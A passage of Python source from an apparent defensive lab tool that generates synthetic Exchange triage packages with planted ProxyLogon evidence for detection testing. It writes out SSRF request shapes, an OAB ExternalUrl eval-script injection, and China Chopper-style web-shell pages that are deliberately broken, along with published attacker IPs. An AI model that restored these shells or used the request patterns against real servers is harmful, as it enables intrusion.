"""Planted evidence for triage packages: the ProxyLogon, ProxyShell and ProxyNotShell traces and look-alikes.

Each scenario adds *plants* to a :class:`Plan`: log lines (placed by time into the right hourly or daily
file), Windows events, and files (web shells, dumps, archives). Every plant carries its ground-truth
items; :mod:`exwatch.lab.triage` fills in the file and line (or record) when it writes the package.

The shapes follow the published real traces quoted in ``shared/reference/log_formats.md`` (2.6, 3, 6)
and ``detections.md`` (PL-*, PS-*, PN-*, WS-*, PE-*). Everything is defanged: the web shells are
deliberately broken so that no web server could run them (see :func:`chopper_page`), tokens are fake,
and domains are ``contoso.com`` / the ``evil.com``/``test.com`` placeholders of the published patterns.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from exwatch.lab import triage_traffic as traffic
from exwatch.lab.triage_formats import (
    ASPNET_CLIENT,
    ECP_AUTH,
    ECP_SERVER,
    EVENTLOGS,
    HTTPPROXY,
    OAB_FE,
    OABGEN,
    OWA_AUTH,
    W3SVC1,
    W3SVC2,
    WIN_INSTALL,
    EventSpec,
    ServerInfo,
    ecp_cmd,
    ecp_file_name,
    httpproxy_file_name,
    iis_file_name,
    iis_time,
    iso_ms,
    oabgen_file_name,
    ps_quote,
)

SCENARIOS = ("proxylogon", "proxyshell", "proxynotshell", "lookalikes", "clean", "all")

# Event log files inside a package (Event Viewer XML exports).
EVT_APPLICATION = f"{EVENTLOGS}/Application.xml"
EVT_MANAGEMENT = f"{EVENTLOGS}/MSExchange Management.xml"
EVT_SYSMON = f"{EVENTLOGS}/Microsoft-Windows-Sysmon-Operational.xml"
EVT_SECURITY = f"{EVENTLOGS}/Security.xml"
EVT_POWERSHELL = f"{EVENTLOGS}/Microsoft-Windows-PowerShell-Operational.xml"
EVT_DEFENDER = f"{EVENTLOGS}/Microsoft-Windows-Windows Defender-Operational.xml"
EVENT_FILES = (EVT_APPLICATION, EVT_MANAGEMENT, EVT_SECURITY, EVT_SYSMON, EVT_POWERSHELL, EVT_DEFENDER)

# Published indicators used in planted lines (shared/reference/iocs/): the HelseCERT incident's
# web-shell clients and one Volexity exploitation address; the User-Agents of the real chain.
IOC_IPS = ("157.230.221.198", "139.162.202.236", "67.205.176.9")
IOC_UAS = ("ExchangeServicesClient/0.0.0.0", "python-requests/2.25.1", "antSword/v2.1")

SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"


@dataclass
class LinePlant:
    """A log line to insert, by time, into ``file``."""

    file: str
    time: datetime
    text: str
    items: list[dict[str, Any]]


@dataclass
class EventPlant:
    file: str
    spec: EventSpec
    items: list[dict[str, Any]]


@dataclass
class FilePlant:
    """A file to write; items with a ``match`` get the 1-based line of its first occurrence."""

    path: str
    content: bytes
    time: datetime
    items: list[dict[str, Any]]


@dataclass
class Plan:
    server: ServerInfo
    start: datetime
    end: datetime
    seed: int
    lines: list[LinePlant] = field(default_factory=list)
    events: list[EventPlant] = field(default_factory=list)
    files: list[FilePlant] = field(default_factory=list)

    def rnd(self, name: str) -> random.Random:
        return random.Random(f"{self.seed}-{name}")


def item(
    kind: str,
    wave: str,
    cve: str | None,
    detection: str,
    t: datetime,
    *,
    match: str | None = None,
    expect: str | None = None,
    note: str | None = None,
) -> dict[str, Any]:
    """One ground-truth item (file and line/record are added when the package is written)."""
    d: dict[str, Any] = {"kind": kind, "wave": wave, "cve": cve, "detection": detection, "time": iso_ms(t)}
    if match is not None:
        d["match"] = match
    if expect is not None:
        d["expect"] = expect  # look-alikes: the highest confidence a correct hunt may give this rule here
    if note is not None:
        d["note"] = note
    return d


def _context_items(text: str, wave: str, kind: str, t: datetime) -> list[dict[str, Any]]:
    """Low-confidence context items for published attacker addresses and User-Agents in a planted line."""
    out = []
    for ip in IOC_IPS:
        if ip in text:
            out.append(item(kind, wave, None, "context.attacker_ip", t, match=ip))
    for ua in IOC_UAS:
        if ua in text:
            out.append(item(kind, wave, None, "context.user_agent", t, match=ua))
    return out


_guid = traffic.guid

# --- line builders --------------------------------------------------------------------------------


def proxy_text(server: ServerInfo, protocol: str, t: datetime, rnd: random.Random, **values: str) -> str:
    """A finished HttpProxy line for ``protocol`` at ``t``."""
    row = traffic.proxy_values(server, protocol, **values)
    row.update({k: v for k, v in traffic.latencies(rnd, rnd.randint(5, 120)).items() if k not in values})
    line = traffic.proxy_line(row)
    return line.replace(traffic.T_SLOT, iso_ms(t)).replace(traffic.R_SLOT, _guid(rnd))


def iis_text(server: ServerInfo, port: str, t: datetime, rnd: random.Random, **values: str) -> str:
    row = traffic.iis_values(server, port, **values)
    return traffic.iis_line(row).replace(traffic.T_SLOT, iis_time(t)).replace(traffic.R_SLOT, _guid(rnd))


def proxy_file(protocol: str, t: datetime) -> str:
    return f"{HTTPPROXY}/{protocol}/{httpproxy_file_name(t)}"


def iis_file(site: str, t: datetime) -> str:
    return f"{W3SVC1 if site == '1' else W3SVC2}/{iis_file_name(t)}"


def ecp_file(t: datetime) -> str:
    return f"{ECP_SERVER}/{ecp_file_name(t)}"


def oabgen_file(t: datetime) -> str:
    return f"{OABGEN}/{oabgen_file_name(t)}"


def _iis_kw(**kw: str) -> dict[str, str]:
    """IIS values given with Python-friendly names (cs_uri_stem -> cs-uri-stem, cs_ua -> cs(User-Agent))."""
    out = {}
    for k, v in kw.items():
        if k == "cs_ua":
            out["cs(User-Agent)"] = v
        elif k == "cs_referer":
            out["cs(Referer)"] = v
        else:
            out[k.replace("_", "-")] = v
    return out


def add_line(
    plan: Plan, file: str, t: datetime, text: str, items: Iterable[dict[str, Any]], wave: str, kind: str
) -> None:
    its = list(items)
    its.extend(_context_items(text, wave, kind, t))
    plan.lines.append(LinePlant(file, t, text, its))


def mgmt_event(
    plan: Plan, t: datetime, cmdlet: str, params: str, user: str, sid: str, failed: bool = False
) -> EventSpec:
    """MSExchange Management event 1 (succeeded) or 6 (failed): cmdlet in Data[0], parameters in Data[1].

    The data items after the first two follow the real record in shared/reference/evtx/MSExchange_Management_wec.evtx.
    """
    rnd = plan.rnd(f"mgmt-{t.isoformat()}-{cmdlet}")
    return EventSpec(
        provider="MSExchange CmdletLogs",
        event_id=6 if failed else 1,
        qualifiers=16384 if not failed else 49152,
        level=2 if failed else 4,
        task=1,
        channel="MSExchange Management",
        time=t,
        data=(
            cmdlet,
            params,
            f"{plan.server.domain}/Users/{user}",
            sid,
            sid,
            "Remote-ManagementShell-Unknown",
            f"{rnd.randint(2000, 9000)} w3wp#MSExchangePowerShellAppPool",
            "",
            str(rnd.randint(1, 30)),
            f"00:00:{rnd.randint(0, 3):02d}.{rnd.randint(0, 9999999):07d}",
            f"View Entire Forest: 'False', Default Scope: '{plan.server.domain}', Configuration Domain Controller: 'DC01.{plan.server.domain}'",
            "",
            "",
            "",
            "",
            "",
            "",
            "False",
            "",
            "0 objects execution has been proxied to remote server.",
            "",
            "",
            "0",
            f"ActivityId: {_guid(rnd)}",
            "ServicePlan:;IsAdmin:True;",
            "",
            "en-US",
        ),
    )


def sysmon_process(
    plan: Plan,
    t: datetime,
    image: str,
    command: str,
    parent_image: str,
    parent_command: str,
    user: str = "NT AUTHORITY\\SYSTEM",
) -> EventSpec:
    """Sysmon event 1 (process creation) with its named data items."""
    rnd = plan.rnd(f"sysmon1-{t.isoformat()}-{command}")
    return EventSpec(
        provider="Microsoft-Windows-Sysmon",
        provider_guid=SYSMON_GUID,
        event_id=1,
        version=5,
        level=4,
        task=1,
        opcode=0,
        keywords="0x8000000000000000",
        channel="Microsoft-Windows-Sysmon/Operational",
        time=t,
        process_id=rnd.randint(1000, 5000),
        thread_id=rnd.randint(1000, 9000),
        user_sid="S-1-5-18",
        named_data=(
            ("RuleName", "-"),
            ("UtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"),
            ("ProcessGuid", "{" + _guid(rnd) + "}"),
            ("ProcessId", str(rnd.randint(1000, 20000))),
            ("Image", image),
            ("FileVersion", "-"),
            ("Description", "-"),
            ("Product", "-"),
            ("Company", "-"),
            ("OriginalFileName", "-"),
            ("CommandLine", command),
            ("CurrentDirectory", "C:\\Windows\\system32\\"),
            ("User", user),
            ("LogonGuid", "{" + _guid(rnd) + "}"),
            ("LogonId", "0x3e7"),
            ("TerminalSessionId", "0"),
            ("IntegrityLevel", "System"),
            ("Hashes", f"SHA256={rnd.getrandbits(256):064X}"),
            ("ParentProcessGuid", "{" + _guid(rnd) + "}"),
            ("ParentProcessId", str(rnd.randint(1000, 20000))),
            ("ParentImage", parent_image),
            ("ParentCommandLine", parent_command),
        ),
    )


def security_4688(plan: Plan, sysmon: EventSpec) -> EventSpec:
    """Security event 4688 (process creation, with command line auditing) for the same process."""
    d = dict(sysmon.named_data)
    rnd = plan.rnd(f"4688-{sysmon.time.isoformat()}-{d.get('CommandLine', '')}")
    system = d.get("User", "").upper() == "NT AUTHORITY\\SYSTEM"
    return EventSpec(
        provider="Microsoft-Windows-Security-Auditing",
        provider_guid="{54849625-5478-4994-A5BA-3E3B0328C30D}",
        event_id=4688,
        version=2,
        level=0,
        task=13312,
        opcode=0,
        keywords="0x8020000000000000",
        channel="Security",
        time=sysmon.time,
        process_id=4,
        thread_id=rnd.randint(100, 9000),
        named_data=(
            ("SubjectUserSid", "S-1-5-18"),
            ("SubjectUserName", f"{plan.server.host}$"),
            ("SubjectDomainName", plan.server.netbios),
            ("SubjectLogonId", "0x3e7"),
            ("NewProcessId", f"0x{rnd.randint(0x200, 0x7FFF):x}"),
            ("NewProcessName", d.get("Image", "")),
            ("TokenElevationType", "%%1936" if system else "%%1938"),
            ("ProcessId", f"0x{rnd.randint(0x200, 0x7FFF):x}"),
            ("CommandLine", d.get("CommandLine", "")),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"),
            ("TargetDomainName", "-"),
            ("TargetLogonId", "0x0"),
            ("ParentProcessName", d.get("ParentImage", "")),
            ("MandatoryLabel", "S-1-16-16384" if system else "S-1-16-12288"),
        ),
    )


def mirror_process_events(plan: Plan) -> None:
    """Every planted Sysmon process creation also as Security 4688 (servers often have only one of them).

    The items move with it; their ``match`` becomes the command line, which 4688 carries (it has no
    parent command line, so an application-pool name cannot be the match there).
    """
    for p in list(plan.events):
        if p.file == EVT_SYSMON and p.spec.event_id == 1:
            cmd = dict(p.spec.named_data)["CommandLine"]
            plan.events.append(
                EventPlant(
                    EVT_SECURITY, security_4688(plan, p.spec), [{**it, "match": cmd[:40]} for it in p.items]
                )
            )


def script_block(plan: Plan, t: datetime, text: str, path: str = "", level: int = 5) -> EventSpec:
    """PowerShell Operational 4104 (script block logging)."""
    rnd = plan.rnd(f"4104-{t.isoformat()}-{text[:40]}")
    return EventSpec(
        provider="Microsoft-Windows-PowerShell",
        provider_guid="{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
        event_id=4104,
        version=1,
        level=level,
        task=2,
        opcode=15,
        keywords="0x0",
        channel="Microsoft-Windows-PowerShell/Operational",
        time=t,
        process_id=rnd.randint(1000, 9000),
        thread_id=rnd.randint(1000, 9000),
        user_sid="S-1-5-18",
        named_data=(
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", text),
            ("ScriptBlockId", _guid(rnd)),
            ("Path", path),
        ),
    )


def defender_detection(
    plan: Plan, t: datetime, threat: str, path: str, process: str, category: str
) -> EventSpec:
    """Windows Defender Operational 1116 (malware or unwanted software detected)."""
    rnd = plan.rnd(f"1116-{t.isoformat()}-{threat}")
    return EventSpec(
        provider="Microsoft-Windows-Windows Defender",
        provider_guid="{11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78}",
        event_id=1116,
        version=0,
        level=3,
        task=0,
        opcode=0,
        keywords="0x8000000000000000",
        channel="Microsoft-Windows-Windows Defender/Operational",
        time=t,
        process_id=rnd.randint(1000, 9000),
        thread_id=rnd.randint(1000, 9000),
        user_sid="S-1-5-18",
        named_data=(
            ("Product Name", "Microsoft Defender Antivirus"),
            ("Product Version", "4.18.2102.4"),
            ("Detection ID", "{" + _guid(rnd).upper() + "}"),
            ("Detection Time", iso_ms(t)),
            ("Threat ID", str(rnd.randint(2147600000, 2147800000))),
            ("Threat Name", threat),
            ("Severity ID", "5"),
            ("Severity Name", "Severe"),
            ("Category ID", "8" if category == "Trojan" else "34"),
            ("Category Name", category),
            ("FWLink", "https://go.microsoft.com/fwlink/?linkid=37020&name=" + threat),
            ("Status Code", "1"),
            ("Source ID", "3"),
            ("Source Name", "Real-Time Protection"),
            ("Process Name", process),
            ("Detection User", "NT AUTHORITY\\SYSTEM"),
            ("Path", path),
            ("Origin ID", "1"),
            ("Origin Name", "Local machine"),
            ("Action ID", "9"),
            ("Action Name", "Not Applicable"),
            ("Error Code", "0x00000000"),
            ("Error Description", "The operation completed successfully."),
            ("Security intelligence Version", "AV: 1.333.269.0, AS: 1.333.269.0, NIS: 1.333.269.0"),
            ("Engine Version", "AM: 1.1.17900.7, NIS: 1.1.17900.7"),
        ),
    )


def sysmon_file(plan: Plan, t: datetime, image: str, target: str) -> EventSpec:
    """Sysmon event 11 (file created)."""
    rnd = plan.rnd(f"sysmon11-{t.isoformat()}-{target}")
    return EventSpec(
        provider="Microsoft-Windows-Sysmon",
        provider_guid=SYSMON_GUID,
        event_id=11,
        version=2,
        level=4,
        task=11,
        opcode=0,
        keywords="0x8000000000000000",
        channel="Microsoft-Windows-Sysmon/Operational",
        time=t,
        process_id=rnd.randint(1000, 5000),
        thread_id=rnd.randint(1000, 9000),
        user_sid="S-1-5-18",
        named_data=(
            ("RuleName", "-"),
            ("UtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"),
            ("ProcessGuid", "{" + _guid(rnd) + "}"),
            ("ProcessId", str(rnd.randint(1000, 20000))),
            ("Image", image),
            ("TargetFilename", target),
            ("CreationUtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"),
        ),
    )


W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


def w3wp_cmdline(pool: str) -> str:
    return (
        f'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "{pool}" -v "v4.0" -c '
        '"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" '
        "-a \\\\.\\pipe\\iisipm0b1e9f6c-5d1b-4a0e-8a54-1d5f0e5d3a77 -h "
        '"C:\\inetpub\\temp\\apppools\\' + pool + "\\" + pool + '.config" -w "" -m 0'
    )


def win_path(rel: str) -> str:
    """``C:\\`` path of a package-relative path."""
    return "C:\\" + rel.replace("/", "\\")


# --- web-shell samples (inert) ------------------------------------------------------------------
#
# The samples below carry the byte patterns detections look for (detections.md WS-2, WS-3) but can
# never run. The eval pages are broken on purpose, twice where the shape allows:
#   1. the script body has an extra closing brace after the eval call ("...,"unsafe");}}"), a
#      syntax error that stops the JScript compiler, so the page never compiles; and
#   2. the classic one-line pages (Chopper, PST and DER shells) carry the @Page directive twice,
#      which the ASP.NET page parser rejects before compiling anything ("only one 'page' directive").
# The uploader has no save call at all (and both breaks); the compiled-page stand-in has no PE header.
# The request key is "klk123456" as in the published sample. The tests check every one of these
# breaks. Do not "fix" them: a working page would be a working web shell.

OAB_SCRIPT = '<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}}</script>'
SHELL_URL = "http://f/" + OAB_SCRIPT
INERT_MARK = '"unsafe");}}'


def chopper_page() -> bytes:
    """The classic China Chopper one-liner shape (WS-2a, ChinaChopper_Generic), broken twice (see above)."""
    return (
        b'<%@ Page Language="Jscript"%><%eval(Request.Item["klk123456"],"unsafe");}}%>\r\n'
        b'<%@ Page Language="Jscript"%>\r\n'
    )


def uploader_page() -> bytes:
    """The SIMPLESEESHARP shape (``<%@ Page Language="C#" %>`` at offset 0, an ``HttpPostedFile``, under
    1 KB), with no save call at all, the directive twice and an unbalanced brace: it cannot run."""
    return (
        b'<%@ Page Language="C#" %><%@ Page Language="C#" %>\r\n'
        b'<script runat="server">void Page_Load(object sender, EventArgs e) { HttpPostedFile f = null; } }</script>\r\n'
    )


def oab_config_dump(server: ServerInfo, oab_guid: str) -> bytes:
    """An OAB virtual-directory configuration as the reset writes it, with the script in ExternalUrl (WS-2b)."""
    fqdn = server.fqdn
    lines = [
        "Name                            : OAB (Default Web Site)",
        f"Server                          : {server.host}",
        "PollInterval                    : 480",
        "OfflineAddressBooks             : {}",
        "RequireSSL                      : False",
        "BasicAuthentication             : False",
        "WindowsAuthentication           : True",
        "OAuthAuthentication             : True",
        f"MetabasePath                    : IIS://{fqdn}/W3SVC/1/ROOT/OAB",
        "Path                            : " + WIN_INSTALL + "FrontEnd\\HttpProxy\\OAB",
        "ExtendedProtectionTokenChecking : None",
        "ExtendedProtectionFlags         : {}",
        "ExtendedProtectionSPNList       : {}",
        "AdminDisplayVersion             : Version 15.1 (Build 2176.2)",
        "Server                          : " + server.host,
        f"InternalUrl                     : https://{fqdn}/OAB",
        "InternalAuthenticationMethods   : {WindowsIntegrated}",
        "ExternalUrl                     : " + SHELL_URL,
        "ExternalAuthenticationMethods   : {WindowsIntegrated}",
        f"Identity                        : {server.host}\\OAB (Default Web Site)",
        f"Guid                            : {oab_guid}",
        "ObjectCategory                  : "
        + server.domain
        + "/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
        "WhenChanged                     : 3/3/2021 6:59:18 AM",
    ]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def pst_shell(rnd: random.Random) -> bytes:
    """A mailbox-export file: PST header (``!BDN``) with the page text inside (WS-2c), broken as above."""
    header = b"!BDN" + bytes(rnd.getrandbits(8) for _ in range(508))
    body = b'<%@ Page Language="Jscript"%><%@ Page Language="Jscript"%><%eval(Request.Item["klk123456"],"unsafe");}}%>'
    tail = bytes(rnd.getrandbits(8) for _ in range(7000))
    return header + body + tail


def der_shell(rnd: random.Random) -> bytes:
    """A certificate request (DER, ``30 82``) holding the page text (WS-2c), broken as above."""
    body = (
        b"0\x0b\x06\x03U\x04\x03\x0c\x04CN=x"
        + b'<%@ Page Language="Jscript"%><%@ Page Language="Jscript"%><%eval(Request.Item["klk123456"],"unsafe");}}%>'
        + bytes(rnd.getrandbits(8) for _ in range(900))
    )
    return b"\x30\x82" + len(body).to_bytes(2, "big") + body


APPHOST_CONFIG = "Windows/System32/inetsrv/config/applicationHost.config"


def application_host_config(server: ServerInfo, extra: str = "") -> bytes:
    """A trimmed IIS applicationHost.config: the two Exchange sites and their main applications."""
    # (virtual directory, application pool, folder under FrontEnd\HttpProxy)
    fe = (
        ("owa", "MSExchangeOWAAppPool", "owa"),
        ("ecp", "MSExchangeECPAppPool", "ecp"),
        ("EWS", "MSExchangeServicesAppPool", "EWS"),
        ("Microsoft-Server-ActiveSync", "MSExchangeSyncAppPool", "sync"),
        ("Autodiscover", "MSExchangeAutodiscoverAppPool", "autodiscover"),
        ("OAB", "MSExchangeOABAppPool", "OAB"),
        ("mapi", "MSExchangeMapiFrontEndAppPool", "mapi"),
        ("Rpc", "MSExchangeRpcProxyFrontEndAppPool", "rpc"),
        ("PowerShell", "MSExchangePowerShellFrontEndAppPool", "PowerShell"),
    )
    apps = "\r\n".join(
        f'                <application path="/{a}" applicationPool="{pool}">\r\n'
        f'                    <virtualDirectory path="/" physicalPath="{WIN_INSTALL}FrontEnd\\HttpProxy\\{folder}" />\r\n'
        "                </application>"
        for a, pool, folder in fe
    )
    root_extra = f"\r\n                    {extra}" if extra else ""
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\r\n<configuration>\r\n    <system.applicationHost>\r\n        <sites>\r\n'
        '            <site name="Default Web Site" id="1">\r\n'
        '                <application path="/" applicationPool="DefaultAppPool">\r\n'
        f'                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />{root_extra}\r\n'
        "                </application>\r\n"
        f"{apps}\r\n"
        '                <bindings>\r\n                    <binding protocol="http" bindingInformation="*:80:" />\r\n'
        '                    <binding protocol="https" bindingInformation="*:443:" />\r\n                </bindings>\r\n'
        "            </site>\r\n"
        '            <site name="Exchange Back End" id="2">\r\n'
        '                <application path="/" applicationPool="MSExchangeServicesAppPool">\r\n'
        f'                    <virtualDirectory path="/" physicalPath="{WIN_INSTALL}ClientAccess" />\r\n'
        "                </application>\r\n"
        '                <bindings>\r\n                    <binding protocol="https" bindingInformation="*:444:" />\r\n'
        "                </bindings>\r\n            </site>\r\n        </sites>\r\n"
        "    </system.applicationHost>\r\n</configuration>\r\n"
    )
    return text.encode("utf-8")


def compiled_page_standin(rnd: random.Random, app_web: str, virtual_path: str) -> bytes:
    """A stand-in for the assembly ASP.NET compiles from a JScript page (detections.md WS-3).

    It carries the strings the BSI rule looks for (``App_Web_`` name, the page's ``~/`` path,
    ``JScriptEvaluate``) between an ``MZ`` signature and random bytes, but has no PE header at all,
    so Windows cannot load it.
    """
    strings = (
        app_web.encode("utf-16-le")
        + b"\x00\x00"
        + virtual_path.encode("utf-16-le")
        + b"\x00\x00Microsoft.JScript\x00JScriptEvaluate\x00Page_Load\x00get_Request\x00"
        + app_web.encode("ascii")
        + b".dll\x00"
    )
    return b"MZ" + bytes(62) + bytes(rnd.getrandbits(8) for _ in range(6000)) + strings + bytes(2000)


def cabinet(files: list[tuple[str, bytes]], t: datetime) -> bytes:
    """A valid, uncompressed Microsoft cabinet (MS-CAB: CFHEADER, one CFFOLDER, CFFILEs, CFDATA blocks)."""
    names = [n.encode("ascii") + b"\x00" for n, _ in files]
    data = b"".join(d for _, d in files)
    blocks = [data[i : i + 32768] for i in range(0, len(data), 32768)] or [b""]
    header_len, folder_len = 36, 8
    files_len = sum(16 + len(n) for n in names)
    data_start = header_len + folder_len + files_len
    total = data_start + sum(8 + len(b) for b in blocks)
    dos_date = ((t.year - 1980) << 9) | (t.month << 5) | t.day
    dos_time = (t.hour << 11) | (t.minute << 5) | (t.second // 2)
    out = bytearray(b"MSCF")
    out += struct.pack(
        "<IIIIIBBHHHHH", 0, total, 0, header_len + folder_len, 0, 3, 1, 1, len(files), 0, 0x1234, 0
    )
    out += struct.pack("<IHH", data_start, len(blocks), 0)  # folder: no compression
    offset = 0
    for name, (_, content) in zip(names, files, strict=True):
        out += struct.pack("<IIHHHH", len(content), offset, 0, dos_date, dos_time, 0x20) + name
        offset += len(content)
    for b in blocks:
        out += struct.pack("<IHH", 0, len(b), len(b)) + b  # checksum 0: not computed
    assert len(out) == total
    return bytes(out)


def minidump(rnd: random.Random) -> bytes:
    """A stand-in for an LSASS minidump: the ``MDMP`` signature and random bytes, no real memory."""
    return b"MDMP\x93\xa7\x00\x00" + bytes(rnd.getrandbits(8) for _ in range(16_000))


def small_zip(names: dict[str, bytes], t: datetime) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in names.items():
            info = zipfile.ZipInfo(name, date_time=t.timetuple()[:6])
            z.writestr(info, data)
    return buf.getvalue()


# --- scenarios -----------------------------------------------------------------------------------


def proxylogon(plan: Plan, t0: datetime) -> None:
    """The full ProxyLogon chain of log_formats.md 2.6 item 2, the ECP log of section 3, and what followed."""
    s = plan.server
    rnd = plan.rnd("proxylogon")
    wave = "proxylogon"
    ip = "157.230.221.198"
    admin_sid = traffic.users(plan.seed, s.domain)[0].sid.rsplit("-", 1)[0] + "-500"
    canary = (
        "".join(
            rnd.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(43)
        )
        + "."
    )
    oab_guid = _guid(rnd)
    ssrf = f"ServerInfo~a]@{s.fqdn}:444"
    ddi = "/ecp/DDI/DDIService.svc"
    steps = [
        # (offset s, back-end path, status, UA, rule)
        (
            0.0,
            "/autodiscover/autodiscover.xml?#",
            "200",
            "ExchangeServicesClient/0.0.0.0",
            "proxylogon.ssrf_attempt",
        ),
        (1.023, "/mapi/emsmdb/?#", "200", "python-requests/2.25.1", "proxylogon.ssrf_progressed"),
        (2.213, "/ecp/proxyLogon.ecp?#", "241", "python-requests/2.25.1", "proxylogon.ssrf_progressed"),
        (
            3.771,
            f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
            "200",
            "python-requests/2.25.1",
            "proxylogon.ssrf_progressed",
        ),
        (
            7.225,
            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
            "200",
            "python-requests/2.25.1",
            "proxylogon.ssrf_progressed",
        ),
        (
            9.542,
            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#",
            "200",
            "python-requests/2.25.1",
            "proxylogon.ecp_reset_vdir",
        ),
        (
            12.471,
            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
            "200",
            "python-requests/2.25.1",
            "proxylogon.ssrf_progressed",
        ),
    ]
    cve = "CVE-2021-26855"
    # An earlier attempt from another client, matched only by the BackEndCookie condition (PL-1 item 4).
    tb = t0 - timedelta(minutes=41, seconds=7)
    text = proxy_text(
        s,
        "Ecp",
        tb,
        rnd,
        UrlStem="/ecp/x.js",
        Method="POST",
        HttpStatus="500",
        BackEndStatus="500",
        AuthenticationType="",
        IsAuthenticated="false",
        UserAgent="python-requests/2.24.0",
        ClientIpAddress="192.0.2.77",
        RoutingType="CrossRegion",
        RoutingHint="X-BEResource-Cookie",
        BackEndCookie=f"Server~a]@{s.fqdn}:444/ecp/proxyLogon.ecp?#~1941962753",
        GenericInfo=traffic.generic_info(anonymous=True),
    )
    add_line(
        plan,
        proxy_file("Ecp", tb),
        tb,
        text,
        [item("attack", wave, cve, "proxylogon.ssrf_backendcookie", tb, match="Server~a]@")],
        wave,
        "attack",
    )

    # The first run (four steps, ten minutes earlier) and the full run (log_formats.md 2.6 item 2).
    first = [(0.0, 0), (3.4, 1), (6.1, 2), (9.0, 3)]
    runs = [
        (t0, [(off, steps[i]) for off, i in first]),
        (t0 + timedelta(minutes=9, seconds=28, milliseconds=817), [(st[0], st) for st in steps]),
    ]
    for base, seq in runs:
        for off, (_, path, status, ua, rule) in seq:
            t = base + timedelta(seconds=off)
            anchor = f"{ssrf}{path}"
            text = proxy_text(
                s,
                "Ecp",
                t,
                rnd,
                UrlStem="/ecp/y.js",
                Method="POST",
                HttpStatus=status,
                BackEndStatus=status,
                AuthenticationType="",
                IsAuthenticated="false",
                UserAgent=ua,
                ClientIpAddress=ip,
                RoutingType="CrossRegion",
                RoutingHint="X-BEResource-Cookie",
                AnchorMailbox=anchor,
                GenericInfo=traffic.generic_info(anonymous=True),
            )
            its = [item("attack", wave, "CVE-2021-27065" if "Reset" in path else cve, rule, t, match=anchor)]
            if rule == "proxylogon.ecp_reset_vdir":
                its.append(item("attack", wave, cve, "proxylogon.ssrf_progressed", t, match=anchor))
            its.append(item("attack", wave, cve, "proxylogon.iis_static_post", t, match=",/ecp/y.js,"))
            add_line(plan, proxy_file("Ecp", t), t, text, its, wave, "attack")
            # Front end IIS: the request as sent (log_formats.md 6).
            fe = iis_text(
                s,
                "443",
                t,
                rnd,
                **_iis_kw(
                    cs_method="POST",
                    cs_uri_stem="/ecp/y.js",
                    cs_uri_query="&CorrelationID=<empty>;&cafeReqId=" + _guid(rnd) + ";",
                    cs_username="",
                    c_ip=ip,
                    cs_ua=ua,
                    sc_status=status,
                    time_taken=str(rnd.randint(80, 900)),
                ),
            )
            # A POST to a static script under /ecp/ (detections.md PL-3), whatever the status.
            fe_items = [item("attack", wave, cve, "proxylogon.iis_static_post", t, match="POST /ecp/y.js")]
            add_line(plan, iis_file("1", t), t, fe, fe_items, wave, "attack")
            # Back end IIS: the proxied call under the machine account.
            be_path, _, be_query = path.rstrip("#").partition("?")
            be = iis_text(
                s,
                "444",
                t + timedelta(milliseconds=40),
                rnd,
                **_iis_kw(
                    cs_method="POST",
                    cs_uri_stem=be_path,
                    cs_uri_query=(be_query + "&" if be_query else "")
                    + "CorrelationID=<empty>;&cafeReqId="
                    + _guid(rnd)
                    + ";",
                    cs_username=f"{s.netbios}\\{s.host}$",
                    c_ip=s.address,
                    cs_ua=ua,
                    sc_status=status,
                    time_taken=str(rnd.randint(50, 700)),
                ),
            )
            be_items = []
            if "Reset" in path:
                be_items.append(
                    item(
                        "attack",
                        wave,
                        "CVE-2021-27065",
                        "proxylogon.iis_backend_reset",
                        t,
                        match="schema=ResetOABVirtualDirectory",
                    )
                )
            add_line(plan, iis_file("2", t), t + timedelta(milliseconds=40), be, be_items, wave, "attack")

    # ECP Server log sequence (log_formats.md 3) for the full run.
    t2 = runs[1][0]
    ident = ps_quote(oab_guid)
    ecp_steps: list[tuple[float, str, str, str | None]] = [
        (
            3.9,
            "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null",
            f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
            None,
        ),
        (
            4.2,
            "Pipeline.1|Get-MailboxRegionalConfiguration",
            f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
            None,
        ),
        (
            7.4,
            ecp_cmd("Set-OabVirtualDirectory", [("ExternalUrl", ps_quote(SHELL_URL)), ("Identity", ident)]),
            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
            "proxylogon.ecp_set_vdir_script",
        ),
        (
            9.7,
            "Get-OABVirtualDirectory",
            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
            None,
        ),
        (
            9.8,
            "Get-ExchangeServer",
